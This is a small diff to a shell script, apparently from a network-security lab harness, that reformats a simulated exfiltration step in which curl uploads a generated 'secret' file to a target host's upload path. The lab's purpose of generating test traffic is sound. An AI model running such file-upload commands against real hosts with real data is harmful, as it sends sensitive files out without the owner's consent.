@@ -29,7 +29,8 @@ scenario() {
 	aside browse
 	blob "$work/secret" $((_mega * 1000000))
 	pause 8000 15000
-	attack b t tcp "$_port" -- timeout 60 curl -sk --limit-rate "$(choose 500k 2M)" -o /dev/null \
+	attack b t tcp "$_port" -- timeout 60 curl -sk --limit-rate "$(choose 500k 2M)" \
+		-o /dev/null \
 		-T "$work/secret" "$_scheme://$(addr t)/upload/$LAB_SEED"
 	sleep 10
 }
